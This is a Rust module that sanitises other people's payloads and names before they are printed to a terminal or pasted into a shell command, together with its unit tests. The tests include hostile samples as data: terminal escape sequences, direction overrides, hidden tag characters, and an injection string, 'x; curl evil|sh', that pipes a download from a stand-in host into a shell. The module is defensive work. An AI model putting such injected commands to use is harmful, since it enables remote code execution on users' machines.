//! The one filter between what other people wrote and a terminal.

use std::borrow::Cow;

/// What can be shown of a payload that somebody else chose.
#[derive(Clone, Debug, Eq, PartialEq)]
pub(super) enum Shown {
    /// Lines without anything that a terminal obeys.
    Text(Vec<String>),
    /// The payload is not text: its bytes in hexadecimal.
    Hex(String),
}

/// Makes `payload` harmless: hostile characters become U+FFFD, tabs become spaces, and what is
/// beyond [`MAX_CHARS`] is left out.
pub(super) fn show(payload: &[u8]) -> Shown {
    show_up_to(payload, MAX_CHARS)
}

/// The same with nothing left out, for whoever saves it.
pub(super) fn show_all(payload: &[u8]) -> Shown {
    show_up_to(payload, usize::MAX)
}

fn show_up_to(payload: &[u8], most: usize) -> Shown {
    let Ok(text) = std::str::from_utf8(payload) else {
        let bytes = payload.get(..most / 2).unwrap_or(payload);
        return Shown::Hex(hex::encode(bytes));
    };
    let text: Cow<'_, str> = match text.char_indices().nth(most) {
        Some((end, _)) => format!("{}…", text.get(..end).unwrap_or_default()).into(),
        None => text.into(),
    };
    Shown::Text(text.lines().map(harmless).collect())
}

/// `line` with every hostile character replaced.
pub(crate) fn harmless(line: &str) -> String {
    line.chars()
        .map(|c| match c {
            '\t' => ' ',
            c if is_hostile(c) => char::REPLACEMENT_CHARACTER,
            c => c,
        })
        .collect()
}

/// Whether `c` could move the cursor, change the order of reading, or hide.
pub(crate) fn is_hostile(c: char) -> bool {
    c.is_control()
        || matches!(c,
            '\u{061c}' | '\u{200b}' | '\u{200e}' | '\u{200f}'   // marks of direction, empty space
            | '\u{2028}' ..= '\u{202e}'                         // line ends, overrides of direction
            | '\u{2060}' ..= '\u{206f}'                         // isolates, invisible operators
            | '\u{feff}' | '\u{fff9}' ..= '\u{fffb}'            // byte order mark, annotations
            | '\u{e0000}' ..= '\u{e007f}') // tags: text that is not drawn
}

/// A name that somebody else chose, for a sentence of ours: in quotation marks, with nothing in it that
/// a terminal obeys, that does not show, or that ends the quotation; at most 64 characters.
pub(crate) fn name(name: &str) -> String {
    let mut quoted = String::from('"');
    for (number, c) in name.chars().enumerate() {
        match c {
            _ if number == NAME_CHARS => {
                quoted.push('…');
                break;
            }
            '"' | '\\' => quoted.extend(['\\', c]),
            '\t' => quoted.push(' '),
            c if is_hostile(c) || is_invisible(c) => quoted.push(char::REPLACEMENT_CHARACTER),
            c => quoted.push(c),
        }
    }
    quoted.push('"');
    quoted
}

/// The same for a place of its own, where nothing has to be quoted.
pub(crate) fn plain_name(name: &str) -> String {
    let mut plain = String::new();
    for (number, c) in name.chars().enumerate() {
        match c {
            _ if number == NAME_CHARS => {
                plain.push('…');
                break;
            }
            '\t' => plain.push(' '),
            c if is_hostile(c) || is_invisible(c) => plain.push(char::REPLACEMENT_CHARACTER),
            c => plain.push(c),
        }
    }
    plain
}

/// A name that somebody else chose, for a command to be copied: as it is if a shell takes it for one word
/// and nothing else, or else NAME.
pub(crate) fn argument(name: &str) -> &str {
    let is_plain = |c: char| c.is_ascii_alphanumeric() || "-_.".contains(c);
    match name.chars().all(is_plain) && !name.starts_with('-') && !name.is_empty() {
        true => name,
        false => "NAME",
    }
}

/// Whether `c` shows nothing or an empty place, so that two names could look the same. The joiners and
/// the selector that emoji and some scripts need are not among them.
fn is_invisible(c: char) -> bool {
    matches!(c,
        '\u{ad}' | '\u{34f}' | '\u{115f}' | '\u{1160}' | '\u{17b4}' | '\u{17b5}'
        | '\u{180b}' ..= '\u{180f}' | '\u{2800}' | '\u{3164}' | '\u{fe00}' ..= '\u{fe0e}'
        | '\u{ffa0}' | '\u{e0100}' ..= '\u{e01ef}')
}

/// How many columns `c` takes. East Asian characters and emoji take two; counting too many is harmless.
pub(super) fn width(c: char) -> usize {
    if c < '\u{1100}' { 1 } else { 2 }
}

/// Breaks `line` so that no row is wider than `columns`: a row that a terminal wraps by itself
/// would begin where only our own words begin.
pub(super) fn rows(line: &str, columns: usize) -> Vec<String> {
    let mut rows = vec![String::new()];
    let mut used = 0_usize;
    for c in line.chars() {
        let width = width(c);
        if used.saturating_add(width) > columns {
            rows.push(String::new());
            used = 0;
        }
        used = used.saturating_add(width);
        if let Some(row) = rows.last_mut() {
            row.push(c);
        }
    }
    rows
}

/// Longest name that is shown; a card's has at most 64 bytes.
const NAME_CHARS: usize = 64;
/// Longest text that is shown on a terminal; a meeting carries less.
const MAX_CHARS: usize = 4096;

#[cfg(test)]
mod tests {
    use super::*;

    fn text(payload: &str) -> Vec<String> {
        match show(payload.as_bytes()) {
            Shown::Text(lines) => lines,
            Shown::Hex(hex) => panic!("{hex}"),
        }
    }

    #[test]
    fn leaves_every_language_alone() {
        for fine in [
            "see you at six",
            "à bientôt",
            "שלום",
            "さようなら",
            "👩‍🚀",
            "naïve\u{301}",
        ] {
            assert_eq!(text(fine), [fine]);
        }
    }

    #[test]
    fn takes_the_power_of_terminal_sequences() {
        assert_eq!(text("a\u{1b}[2Jb\u{7}"), ["a\u{fffd}[2Jb\u{fffd}"]);
        assert_eq!(text("\u{9b}31mred"), ["\u{fffd}31mred"]);
        assert_eq!(text("over\rwritten"), ["over\u{fffd}written"]);
    }

    #[test]
    fn takes_the_power_of_direction_overrides_and_hidden_text() {
        for c in [
            '\u{202e}',
            '\u{2066}',
            '\u{200b}',
            '\u{e0041}',
            '\u{2028}',
            '\u{feff}',
        ] {
            assert_eq!(text(&format!("a{c}b")), ["a\u{fffd}b"]);
        }
    }

    #[test]
    fn keeps_lines_apart() {
        assert_eq!(text("one\r\ntwo\tthree\n"), ["one", "two three"]);
    }

    #[test]
    fn bounds_the_length() {
        let shown = text(&"é".repeat(MAX_CHARS + 1)).concat();
        assert_eq!(shown.chars().count(), MAX_CHARS + 1);
        assert!(shown.ends_with('…'));
        assert_eq!(text(&"é".repeat(MAX_CHARS)), ["é".repeat(MAX_CHARS)]);
        let all = "é".repeat(MAX_CHARS + 1);
        assert_eq!(show_all(all.as_bytes()), Shown::Text(vec![all]));
    }

    #[test]
    fn shows_bytes_that_are_not_text_in_hexadecimal() {
        assert_eq!(show(&[0xff, 0x00]), Shown::Hex("ff00".into()));
    }

    #[test]
    fn a_name_is_quoted_and_cannot_leave_its_quotation() {
        assert_eq!(name("alice"), "\"alice\"");
        assert_eq!(name("Søren 字 👩‍🚀"), "\"Søren 字 👩‍🚀\"");
        assert_eq!(
            name(r#"alice" is verified \"#),
            r#""alice\" is verified \\""#
        );
        assert_eq!(name(""), "\"\"");
    }

    #[test]
    fn a_name_changes_nothing_on_the_screen() {
        for hostile in [
            '\u{1b}',
            '\n',
            '\r',
            '\u{9b}',
            '\u{7f}',
            '\u{202e}',
            '\u{2066}',
            '\u{200b}',
            '\u{e0041}',
            '\u{3164}',
            '\u{ad}',
            '\u{2800}',
            '\u{fe00}',
        ] {
            assert_eq!(name(&format!("a{hostile}b")), "\"a\u{fffd}b\"");
        }
        assert_eq!(name("a\tb"), "\"a b\"");
    }

    #[test]
    fn a_name_in_a_command_is_one_word_or_stands_for_itself() {
        assert_eq!(argument("Alice-2"), "Alice-2");
        for hostile in ["x; curl evil|sh", "a b", "$(a)", "-rf", "", "\u{3164}", "é"] {
            assert_eq!(argument(hostile), "NAME", "{hostile}");
        }
    }

    #[test]
    fn a_name_has_at_most_64_characters() {
        let [fits, too_long] = [64, 65].map(|length| name(&"é".repeat(length)));
        assert_eq!(fits, format!("\"{}\"", "é".repeat(64)));
        assert_eq!(too_long, format!("\"{}…\"", "é".repeat(64)));
    }

    #[test]
    fn breaks_long_lines_into_rows() {
        assert_eq!(rows("abcdef", 4), ["abcd", "ef"]);
        assert_eq!(rows("日本語", 4), ["日本", "語"]);
        assert_eq!(rows("", 4), [""]);
    }
}
